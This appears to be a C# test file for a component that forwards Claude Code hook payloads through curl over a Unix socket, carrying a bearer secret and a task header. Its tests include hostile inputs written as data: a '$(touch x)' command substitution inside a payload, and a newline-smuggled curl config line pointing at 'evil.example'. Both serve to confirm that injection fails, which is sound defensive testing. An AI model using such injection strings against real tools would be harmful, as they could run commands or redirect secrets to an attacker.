using System.Diagnostics;
using System.Net.Sockets;
using System.Text;
using Chorus.Claude;
using Chorus.Processes;

namespace Chorus.Tests.Claude;

/// <summary>The command is run by a real shell and a real curl, as Claude Code runs it.</summary>
public sealed class HookSenderTests : IDisposable
{
    private readonly string folder = Directory.CreateTempSubdirectory("chorus 'hook\" ").FullName;

    private static string Curl => ProgramFinder.Find("curl", Environment.GetEnvironmentVariable)!;

    public void Dispose() => Directory.Delete(folder, recursive: true);

    [Fact]
    public async Task A_payload_arrives_byte_for_byte_with_its_tasks_secret()
    {
        var socket = Path.Combine(folder, "hooks.sock");
        using var listener = new Socket(AddressFamily.Unix, SocketType.Stream, ProtocolType.Unspecified);
        listener.Bind(new UnixDomainSocketEndPoint(socket));
        listener.Listen();
        var payload = $$"""{"text":"'\" $(touch x) {{new string('a', 200_000)}} ü🎶"}""";

        var received = ReceiveAsync(listener, Encoding.UTF8.GetByteCount(payload));
        var (exit, output) = await RunAsync(HookSender.File(socket, "7", "the-secret"), payload);

        var request = await received;
        Assert.Equal((0, ""), (exit, output));
        Assert.StartsWith("POST /hooks/claude HTTP/1.1\r\n", request, StringComparison.Ordinal);
        Assert.Contains("\r\nAuthorization: Bearer the-secret\r\n", request, StringComparison.Ordinal);
        Assert.Contains("\r\nX-Chorus-Task: 7\r\n", request, StringComparison.Ordinal);
        Assert.Contains("\r\nContent-Type: application/json\r\n", request, StringComparison.Ordinal);
        Assert.EndsWith("\r\n\r\n" + payload, request, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Without_a_server_it_says_nothing_and_ends_well() =>
        Assert.Equal((0, ""), await RunAsync(HookSender.File(Path.Combine(folder, "nobody.sock"), "7", "s"), "{}"));

    [Fact]
    public void A_value_that_could_add_a_line_is_refused() =>
        Assert.Throws<ArgumentException>(() => HookSender.File("/s", "7\nurl = \"http://evil.example\"", "s"));

    private async Task<(int ExitCode, string Output)> RunAsync(string file, string payload)
    {
        var path = Path.Combine(folder, "hooks.curl");
        await File.WriteAllTextAsync(path, file);
        var start = new ProcessStartInfo("/bin/sh", ["-c", HookSender.Command(Curl)]) { RedirectStandardInput = true, RedirectStandardOutput = true, RedirectStandardError = true };
        start.Environment[HookSender.FileVariable] = path;
        start.Environment["http_proxy"] = "http://127.0.0.1:9";
        using var process = Process.Start(start)!;
        await process.StandardInput.WriteAsync(payload);
        process.StandardInput.Close();
        var output = process.StandardOutput.ReadToEndAsync();
        var error = process.StandardError.ReadToEndAsync();
        await process.WaitForExitAsync();
        return (process.ExitCode, await output + await error);
    }

    private static async Task<string> ReceiveAsync(Socket listener, int bodyLength)
    {
        using var connection = await listener.AcceptAsync();
        var received = new List<byte>();
        var buffer = new byte[65536];
        while (true)
        {
            var count = await connection.ReceiveAsync(buffer);
            received.AddRange(buffer[..count]);
            var text = Encoding.UTF8.GetString([.. received]);
            var head = text.IndexOf("\r\n\r\n", StringComparison.Ordinal);
            if (count == 0 || (head >= 0 && received.Count - Encoding.UTF8.GetByteCount(text[..(head + 4)]) >= bodyLength))
            {
                await connection.SendAsync("HTTP/1.1 204 No Content\r\n\r\n"u8.ToArray());
                return text;
            }
        }
    }
}
